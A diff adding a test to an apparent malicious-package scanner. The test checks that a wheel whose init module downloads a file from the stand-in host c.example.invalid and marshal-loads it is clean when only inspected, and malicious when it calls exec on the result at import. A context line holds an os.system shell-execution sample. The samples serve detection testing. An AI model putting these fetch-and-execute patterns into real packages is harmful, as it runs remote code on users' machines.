@@ -1017,3 +1017,22 @@ def test_a_checkout_does_not_run_the_folder_that_it_is_given(client: str) -> Non
     assert honest.verdict is Verdict.CLEAN, honest.findings
     started = f"{source}    os.system('sh %s' % target)\nget('a')\n"
     assert screen_bytes(pack({INIT: started}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS
+
+
+def test_compiled_code_that_is_only_looked_at_is_not_executed() -> None:
+    """A build tool reads the names that a fetched module uses; who executes what it unpacks is found by that."""
+    source = (
+        "import marshal, os, tempfile\n"
+        "from urllib.parse import unquote\n"
+        "from urllib.request import urlopen\n"
+        "def names(project):\n"
+        "    page = urlopen('https://c.example.invalid/simple/%s/' % project).read()\n"
+        "    path = os.path.join(tempfile.mkdtemp(), unquote(page.decode()).split('/')[-1])\n"
+        "    open(path, 'wb').write(page)\n"
+        "    code = marshal.load(open(path, 'rb'))\n"
+        "    return code.co_names\n"
+    )
+    honest = screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL)
+    assert honest.verdict is Verdict.CLEAN, honest.findings
+    executed = source.replace("return code.co_names", "exec(code)") + "names('a')\n"
+    assert screen_bytes(pack({INIT: executed}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS
